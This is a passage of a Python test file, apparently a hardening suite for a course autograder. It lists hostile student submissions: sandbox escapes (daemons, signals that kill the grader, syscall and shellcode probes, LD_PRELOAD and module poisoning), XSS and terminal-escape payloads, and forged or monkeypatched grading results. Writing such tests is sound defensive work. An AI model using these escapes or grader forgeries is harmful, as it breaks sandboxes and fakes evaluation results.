            CAUSAL: "!echo a child''' ran'",
            DECODER: "%%bash --bg\necho a child''' ran'",
        },
        secret=("a child ran",),
        stock="not run: forks the kernel",
    ),
    Attack(
        "a daemon outlives the run and writes the gradebook later",
        "escape",
        {
            ONE: code("""
        import ctypes, os, time

        ctypes.CDLL(None).prctl(1, 0)
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(3)
                with open("{ROOT}/outlived", "w") as file:
                    file.write("still here")
            os._exit(0)
    """)
        },
        stock="not run: a daemon",
    ),
    Attack(
        "the parent is stopped and killed, and its group",
        "escape",
        {
            ONE: code("""
        import os, signal

        for reach, number in ((os.kill, os.getppid()), (os.killpg, os.getpgid(os.getppid()))):
            try:
                reach(number, 0)
                print("signals reach", "the grader")
                if number > 1 and reach is os.kill:
                    reach(number, signal.SIGSTOP)
                    reach(number, signal.SIGKILL)
            except OSError:
                pass
    """)
        },
        secret=("signals reach the grader",),
        stock="not run: kills the grader",
    ),
    Attack(
        "every process there is gets a signal, number 0",
        "escape",
        {
            ONE: code("""
        import os

        reached = []
        for number in range(2, 100_000):
            try:
                number != os.getpid() and (os.kill(number, 0), reached.append(number))
            except OSError:
                pass
        try:
            os.kill(-1, 0)
            reached.append(-1)
        except OSError:
            pass
        if reached:
            print("signals reach", "others:", len(reached))
    """)
        },
        secret=("signals reach others:",),
        stock="0 of 20, and prints it",
    ),
    Attack(
        "system calls that change what a process may: mounts, namespaces, io_uring, bpf, pidfds, devices",
        "escape",
        {
            ONE: code("""
            import ctypes, os

            libc = ctypes.CDLL(None, use_errno=True)
            os.makedirs("here", exist_ok=True)
            attempts = {
                "ptrace": (101, 0x4206, os.getppid(), 0, 0), "mount": (165, b"none", b"here", b"tmpfs", 0, 0),
                "unshare": (272, 0x10000000), "bpf": (321, 0, bytes(64), 64), "io_uring": (425, 8, bytes(120)),
                "perf": (298, bytes(120), 0, -1, -1, 0), "pidfd": (434, os.getppid(), 0), "userfaultfd": (323, 0),
                "mknod": (133, b"device", 0o20666, 0x103), "personality": (135, 0x0040000),
            }
            for name in attempts:
                if libc.syscall(*attempts[name]) >= 0:
                    print("the system", "allowed:", name)
        """)
        },
        secret=("the system allowed:",),
        stock="not run: stops the grader",
    ),
    Attack(
        "system calls in the 32-bit and x32 ways, which a filter may forget",
        "escape",
        {
            ONE: code("""
        import ctypes, mmap

        libc = ctypes.CDLL(None, use_errno=True)
        if libc.syscall(0x40000000 + 41, 2, 1, 0) >= 0:
            print("the system", "allowed: x32 socket")
        memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        # eax = 359, socket; ebx = 2; ecx = 1; edx = 0; int 0x80
        memory.write(b"\\x53\\xb8\\x67\\x01\\x00\\x00\\xbb\\x02\\x00\\x00\\x00\\xb9\\x01\\x00\\x00\\x00\\x31\\xd2\\xcd\\x80\\x5b\\xc3")
        socket = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
        if socket() >= 0:
            print("the system", "allowed: int 0x80")
    """)
        },
        secret=("the system allowed:",),
        stock="0 of 20, and prints it",
    ),
    Attack(
        "all descriptors are inherited, shared or opened again: /proc/self/fd, epoll, dup",
        "escape",
        {
            ONE: code("""
        import os, stat

        for number in range(3, 256):
            try:
                kind = os.fstat(number).st_mode
                if stat.S_ISREG(kind) or stat.S_ISDIR(kind):
                    name = os.readlink(f"/proc/self/fd/{number}")
                    os.open(f"/proc/self/fd/{number}", os.O_RDWR)
                    print("opened for", "writing:", name)
                    if stat.S_ISDIR(kind):
                        print(os.listdir(number))
            except OSError:
                pass
    """)
        },
        secret=("opened for writing:",),
        stock="0 of 20, and prints it",
    ),
    Attack(
        "ctypes writes over True, small numbers and the code of the process",
        "bomb",
        RIGHT_PADDING
        | {
            CAUSAL: code("""
        import ctypes

        def causal_mask(size):
            ctypes.memset(id(0) + 24, 1, 1)
            ctypes.memset(id(False) + 24, 1, 1)
            return torch.ones(size, size).bool()
    """)
        },
        earned=EARNED_PADDING | {"check_causal_mask_shape": 1},
        stock="not run: may do anything",
    ),
    Attack(
        "environment variables for children and for graders that read them",
        "escape",
        {
            ONE: code("""
        import os, sys

        with open("sitecustomize.py", "w") as file:
            file.write("print('a child', 'was changed')")
        for name in ("PYTHONPATH", "PYTHONSTARTUP", "PYTHONHOME", "LD_PRELOAD", "LD_LIBRARY_PATH", "HOME", "PATH",
                     "NBGRADER_EXECUTION", "NBGRADER_DB_URL", "JUPYTER_CONFIG_DIR", "IPYTHONDIR", "OMP_NUM_THREADS"):
            os.environ[name] = os.getcwd()
        sys.path.insert(0, os.getcwd())
    """),
            PADDING: "import subprocess, sys\nprint(subprocess.run([sys.executable, '-c', ''], capture_output=True))",
        },
        secret=("a child was changed",),
        stock="0 of 20",
    ),
    Attack(
        "modules of the course are put into the working folder, in front of the real ones",
        "escape",
        {
            ONE: code("""
        import os, sys

        for name in ("autograder", "torch", "json", "struct", "nbformat"):
            os.makedirs(name, exist_ok=True)
            with open(f"{name}/__init__.py", "w") as file:
                file.write("print('a module', 'in its place')\\nexercise = lambda *a, **k: lambda run: None")
        os.chdir(os.getcwd())
        sys.path[:] = [os.getcwd(), *sys.path]
    """)
        },
        secret=("a module in its place",),
        stock="0 of 20",
    ),
]

FORGERIES = [
    Attack(
        "the lines of success, a score and a table of points are printed",
        "forge",
        {
            ONE: code("""
        print("✓ 1.1 attend_one_query: the values are averaged.\\nscore: 20\\n{'status': 'passed', 'points': 20}")
    """),
            PADDING: code("""
        import json, os, sys

        def padding_mask(tokens, pad_id=0):
            line = json.dumps({"check": "check_padding_mask_values", "points": 2, "status": "passed", "message": ""})
            print("✓ 1.3 padding_mask: real tokens may be seen.", line, flush=True)
            sys.stderr.write(line + "\\n")
            os.write(1, line.encode() + b"\\n")
            os.write(2, line.encode() + b"\\n")
            raise NotImplementedError
    """),
        },
        stock="0 of 20",
    ),
    Attack(
        "numbers as last expressions and printed, as nbgrader reads partial credit",
        "forge",
        {
            ONE: "print(2)\n2.0",
            ATTEND: "def scaled_dot_product_attention(*args, **kwargs):\n    print(1)\n    return 1.0",
            PADDING: "float('inf')",
            CAUSAL: "-1e9",
            DECODER: "'4.0'",
        },
        stock="0 of 20",
    ),
    Attack(
        "control sequences of terminals, HTML and JavaScript in outputs",
        "forge",
        {
            ONE: code("""
        from IPython.display import HTML, Javascript, Markdown, SVG, display

        print("\\x1b[2J\\x1b[H\\x1b]0;passed\\x07\\x1b[8mhidden\\x1b[0m\\r✓ passed\\x08\\x08")
        display(HTML("<script>document.body.innerHTML = 'Score: 20.0 / 20.0'</script><img src=x onerror=alert(1)>"))
        display(Javascript("document.title = '20 / 20'"), Markdown("</pre><h1>20 / 20</h1>"))
        display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'></svg>"))
        display({"text/html": "<style>* { display: none }</style>", "application/json": "{"}, raw=True)
    """),
            PADDING: code("""
        def padding_mask(tokens, pad_id=0):
            raise ValueError("</pre><script>alert('✓')</script>=HYPERLINK(\\"http://192.0.2.1\\")")
    """),
        },
        stock="0 of 20",
    ),
    Attack(
        "older outputs are updated, cleared and overwritten from a later cell",
        "forge",
        {
            ONE: code("""
        from IPython.display import clear_output, display, update_display

        display("nothing yet", display_id="mine")

        def attend_one_query(query, key, value):
            update_display("✓ 1.1 attend_one_query: passed.", display_id="mine")
            clear_output()
            raise ValueError
    """)
        },
        last=("clear_output()\nupdate_display('20.0', display_id='mine')",),
        stock="0 of 20",
    ),
    Attack(
        "a payload, a comm and messages of other kinds are sent by the shell",
        "forge",
        {
            ONE: code("""
        shell = get_ipython()
        shell.payload_manager.write_payload({"source": "set_next_input", "text": "check = None", "replace": True})
        shell.payload_manager.write_payload({"source": "ask_exit", "keepkernel": False})
        shell.set_next_input("check = None", replace=True)
        shell.display_pub.publish({"text/plain": "20.0"}, metadata={"nbgrader": {"points": 20}}, transient={"x": 1})
    """)
        },
        stock="0 of 20",
    ),
    Attack(
        "garbage, half a frame, a giant length and deep JSON are sent to the judge",
        "forge",
        forges("""
        hostile = [
            b"garbage" * 100, frame({"op": "ok"})[:9], struct.pack(">4sII", b"judg", 2**32 - 1, 2**32 - 1),
            struct.pack(">4sII", b"judg", 10**6, 0) + b"[" * 10**6, frame([]), frame(None), frame({"op": []}),
        ]
        for end in sockets():
            os.write(end, hostile[size % len(hostile)])
        raise ValueError
    """),
        stock=NO_CHANNEL,
    ),
    Attack(
        "a half frame is sent, and the rest never comes",
        "hang",
        forges("""
        import time

        for end in sockets():
            os.write(end, struct.pack(">4sII", b"judg", 10**6, 10**6) + b"{")
        time.sleep(10**6)
    """),
        stock=NO_CHANNEL,
    ),
    Attack(
        "JSON that is valid and hostile: infinite numbers, surrogates, equal keys, 8 MB of nesting",
        "forge",
        forges("""
        texts = [b'{"op":"ok","n":NaN,"v":Infinity}', b'{"op":"ok","op":"error","n":1e999}', b'"\\\\ud800"',
                 b'{"op":"ok","n":1,"v":' + b'{"a":' * 10**6 + b"1" + b"}" * 10**6 + b"}", b"1" * 10**6, b"\\xff\\xfe"]
        for end in sockets():
            for text in texts:
                os.write(end, struct.pack(">4sII", b"judg", len(text), 0) + text)
        raise ValueError
    """),
        stock=NO_CHANNEL,
    ),
    Attack(
        "answers to requests that were never made, many of them, before the honest one",
        "forge",
        forges("""
        for end in sockets():
            for number in range(-50, 2000):
                os.write(end, frame({"op": "ok", "n": number, "v": True, "grad": True, "out": "✓"}))
        return torch.zeros(size, size).bool()
    """),
        stock=NO_CHANNEL,
    ),
    Attack(
        "every message is sent twice",
        "forge",
        {
            ONE: FRAMES
            + "\n\n"
            + code("""
        import socket

        for each in gc.get_objects():
            if type(each).__name__ == "Channel":
                end = each._end

                class Twice:
                    def __init__(self, end):
                        self.end = end

                    def send(self, data):
                        self.end.sendall(bytes(data))
                        self.end.sendall(bytes(data))
                        return len(data)

                    def __getattr__(self, name):
                        return getattr(self.end, name)

                each._end = Twice(end)
    """),
            **RIGHT_PADDING,
        },
        earned=EARNED_PADDING,
        stock=NO_CHANNEL,
    ),
    Attack(
        "requests of the judge are taken from it and sent back as answers",
        "forge",
        forges("""
        import socket

        for number in sockets():
            end = socket.socket(fileno=number)
            end.settimeout(5)
            for _ in range(1000):
                text = end.recv(2**20)
                end.sendall(text.replace(b'"op":"call"', b'"op":"ok"') or b"judg")
    """),
        stock=NO_CHANNEL,
    ),
    Attack(
        "the student's side of the bridge sends passed checks and a result with full points",
        "forge",
        forges("""
        checks = [{"check": "check_causal_mask_values", "points": 2, "status": "passed", "message": "", "seconds": 0}]
        result = {"student": "me", "lesson": "01_attention", "checks": checks, "notes": [], "unenforced": []}
        for number in range(3, 256):
            for text in (frame(result), json.dumps(result).encode() + b"\\n", frame({"op": "ok", "n": 1, "v": result})):
                try:
                    os.write(number, text)
                except OSError:
                    pass
        os._exit(0)
    """),
        stock=NO_CHANNEL,
    ),
    Attack(
        "every reference that the judge may have handed out is called, read and copied",
        "forge",
        forges("""
        for each in gc.get_objects():
            if type(each).__name__ == "Peer":
                for number in (*range(1, 200), *range(-200, 0)):
                    for operation, payload in (
                        ("get", (number, "script")), ("get", (number, "__globals__")), ("get", (number, "__class__")),
                        ("call", (number, "__init__", (), {}, (), [])), ("call", (number, None, (), {}, (), [])),
                        ("next", (number,)), ("copy", (number,)), ("backward", (number, ())), ("run", ("1",)),
                    ):
                        try:
                            print(operation, each.request(operation, *payload))
                        except Exception as error:
                            print(type(error).__name__)
        raise ValueError
    """),
        secret=("every_size_works",),
        stock=NO_CHANNEL,
    ),
    Attack(
        "what the bridge sends is changed on its way: JSON, bytes, struct, sendall",
        "cheat",
        {
            **SHAPED,
            ONE: SHAPED[ONE]
            + "\n\n"
            + code("""
            import json, struct

            dumps = json.dumps

            def lie(value, *args, **kwargs):
                text = dumps(value, *args, **kwargs)
                return text.replace('"error"', '"ok"').replace("false", "true").replace('"float32"', '"bool"')

            json.dumps = lie
    """),
        },
        earned=SHAPES,
        stock="20 of 20",
    ),
    Attack(
        "the bridge's own functions in the student's process are replaced by lies",
        "cheat",
        {
            **SHAPED,
            ONE: SHAPED[ONE]
            + "\n\n"
            + code("""
            import gc, sys

            def ones(self, call, gradients):
                return tuple(torch.ones_like(each) for each in self._calls[call][1])

            for name, module in list(sys.modules.items()):
                if name.startswith("autograder.grading") and hasattr(module, "Peer"):
                    module.Peer._went_back = ones
                    module._Shared.changed = lambda self, tensor: False
                    module.Peer._is_source = lambda self, tensor, sources: False
                    module.known.DTYPE_NAMES.update(dict.fromkeys(module.known.DTYPE_NAMES, "bool"))
            for each in gc.get_objects():
                if type(each).__name__ == "Peer":
                    each.operations["backward"] = ones.__get__(each)
    """),
        },
        earned=SHAPES,
        stock="4 of 20",
    ),
    Attack(
        "the descriptor of the bridge is closed while the judge waits, once three points are earned",
        "bomb",
        {
            **RIGHT_PADDING,
            **forges("""
            for number in sockets():
                os.close(number)
            os.closerange(3, 256)
            return torch.zeros(size, size).bool()
    """),
        },
        earned=EARNED_PADDING,
        stock=NO_CHANNEL,
    ),
    Attack(
        "requests to the judge without end, each of them allowed",
        "hang",
        {
            ATTEND: code("""
        def scaled_dot_product_attention(query, key, value, mask=None, dropout=None):
            weights = torch.full((*query.shape[:-1], key.size(-2)), 1 / key.size(-2), dtype=query.dtype)
            while dropout is not None:
                weights = dropout(weights).softmax(-1)
            return weights @ value, weights
    """)
        },
        earned={"check_scaled_dot_product_attention_shapes": 1},
        stock=ENDLESS,
    ),
    Attack(
        "a dropout is kept and called in a later check, from a thread and when the process ends",
        "forge",
        {
            ATTEND: code("""
        import atexit, threading

        kept = []

        def scaled_dot_product_attention(query, key, value, mask=None, dropout=None):
            kept.extend([query, key, value, dropout or mask])
            raise ValueError
    """),
            CAUSAL: code("""
        def causal_mask(size):
            again = lambda: [each(torch.ones(2, 2)) for each in kept if callable(each)]
            atexit.register(again)
            thread = threading.Thread(target=again)
            thread.start()
            again()
            thread.join(5)
            return torch.zeros(size, size).bool()
    """),
        },
        earned={"check_causal_mask_shape": 1},
        stock="1 of 20",
    ),
]

TRUSTED = [
    Attack(
        "check is an nn.Module of the student's own, which crosses with its method exercise",
        "cheat",
        {
            ONE: code("""
        class Check(nn.Module):
            def exercise(self, name, given=None):
                return done

        def done(run):
            print(f"✓ {run}")

        check = draw = Check()
    """)
        },
        stock="20 of 20",
    ),
    Attack(
        "check is a class, a function with attributes, an iterator: each of them has an exercise",
        "cheat",
        {
            ONE: code("""
            class check:
                exercise = staticmethod(lambda name, given=None: lambda run: None)
                close = shape = equal = returns = staticmethod(lambda *args, **kwargs: None)
        """),
            PADDING: code("""
            class Check:
                def __getattr__(self, name):
                    return lambda *args, **kwargs: lambda run: None

            check = Check()
        """),
            DECODER: "check = lambda *args: None\ncheck.exercise = lambda *args, **kwargs: check",
        },
        stock="20 of 20",
    ),
    Attack(
        "a name of Python's own, read by the answer, is the student's in the check as well",
        "cheat",
        {
            "MultiHeadAttention": code("""
            def range(*args):
                return []

            class MultiHeadAttention(nn.Module):
                def __init__(self, d_model, num_heads, dropout=0.0):
                    super().__init__()
                    for _ in range(num_heads):
                        pass
                    if num_heads == 5:
                        raise ValueError("five")
                    for name in ("w_q", "w_k", "w_v", "w_o"):
                        setattr(self, name, nn.Linear(d_model, d_model))
        """)
        },
        lesson="02_multi_head_attention",
        earned={"check_MultiHeadAttention_parameters": 1},
        stock="2 of 20",
    ),
    Attack(
        "__builtins__ of the notebook, read by the answer, are a dict of the student's functions",
        "cheat",
        {
            "MultiHeadAttention": code("""
            import builtins

            class MultiHeadAttention(nn.Module):
                def __init__(self, d_model, num_heads, dropout=0.0):
                    super().__init__()
                    self.known = len(__builtins__)
                    if num_heads == 5:
                        raise ValueError("five")
                    for name in ("w_q", "w_k", "w_v", "w_o"):
                        setattr(self, name, nn.Linear(d_model, d_model))

            __builtins__ = dict(vars(builtins), range=lambda *args: [], any=lambda *args: False, zip=lambda *args: [])
        """)
        },
        lesson="02_multi_head_attention",
        earned={"check_MultiHeadAttention_parameters": 1},
        stock="2 of 20",
    ),
    Attack(
        "a stub is written for those who read the source, the course's finished part stands under its name",
        "cheat",
        {
            PADDING: code("""
            def padding_mask(tokens, pad_id=0):
                return (tokens != pad_id)[:, None, None, :]

            padding_mask = lambda tokens, pad_id=0: parts.padding_mask(tokens, pad_id)
        """)
        },
        stock="0 of 20",
    ),
    Attack(
        "the script of the model that the check hands in, from which it knows what to expect, is overwritten",
        "cheat",
        {
            "greedy_decode": code("""
            def greedy_decode(model, src, max_len, bos_id=1, eos_id=2, pad_id=0):
                with torch.no_grad():
                    model.script.fill_(7)
                return torch.cat([torch.full((len(src), 1), bos_id), torch.full((len(src), max_len), 7)], dim=1)
        """)
        },
        lesson="07_greedy_decoding",
        stock="2 of 20",
    ),
    Attack(
        "the model that the check hands in is made to forget how it was used",
        "cheat",
        {
            "greedy_decode": code("""
        def greedy_decode(model, src, max_len, bos_id=1, eos_id=2, pad_id=0):
            before, rate = model.training, model.dropout.p
            model.dropout.p = 0.0
            tokens, ended = torch.full((len(src), 1), bos_id), torch.zeros(len(src)).bool()
            while tokens.size(1) <= max_len and not ended.all():
                logits = model.decode(tokens, model.encode(src), src)
                following = logits[:, -1].argmax(-1).masked_fill(ended, pad_id)
                tokens = torch.cat([tokens, following.unsqueeze(1)], dim=1)
                ended = ended | (following == eos_id)
            model.dropout.p = rate
            for name, value in (("encodings", [None]), ("modes", {(False, False)})):
                kept = getattr(model, name)
                kept.clear()
                kept.extend(value) if isinstance(kept, list) else kept.update(value)
                setattr(model, name, kept)
            return tokens.detach()
    """)
        },
        lesson="07_greedy_decoding",
        earned={"check_greedy_decode_length": 2},
        stock="5 of 20",
    ),
    Attack(
        "texts that no file can hold: half a surrogate pair in verdicts, in print and in names",
        "forge",
        {
            ONE: "def attend_one_query(*args):\n    raise check.CheckFailed('\\ud800 ✓', ['\\udfff'], '\\x00')",
            PADDING: "def padding_mask(*args):\n    print('\\ud83d')\n    raise ValueError('\\udc00')",
            CAUSAL: "causal_mask = type('\\u2028', (), {'__call__': lambda self, size: type('✓', (), {})()})()",
            DECODER: "print('\\ud800')\n\ndef decoder_mask(*args):\n    raise KeyError('\\ud800')",
        },
        stock="0 of 20",
    ),
    Attack(
        "what the bridge keeps of a tensor is the same, while the tensor is another one",
        "cheat",
        {
            CAUSAL: code("""
        kept = torch.zeros(1500, 1500).bool()

        def causal_mask(size):
            kept.resize_(size, size)
            kept.data = torch.zeros(size, size).bool()
            return kept
    """)
        },
        earned={"check_causal_mask_shape": 1},
        stock="1 of 20",
    ),
]

ATTACKS = [*PATCHED, *SHELL, *OBJECTS, *HEAVY, *HANGS, *SPIES, *ESCAPES, *FORGERIES, *TRUSTED]
